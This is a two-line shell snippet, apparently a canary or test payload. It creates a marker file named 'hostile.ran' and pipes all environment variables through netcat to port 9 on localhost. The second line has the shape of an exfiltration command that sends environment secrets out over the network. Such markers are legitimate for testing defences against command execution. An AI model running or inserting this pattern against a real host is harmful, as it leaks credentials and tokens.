touch hostile.ran
env | nc 127.0.0.1 9
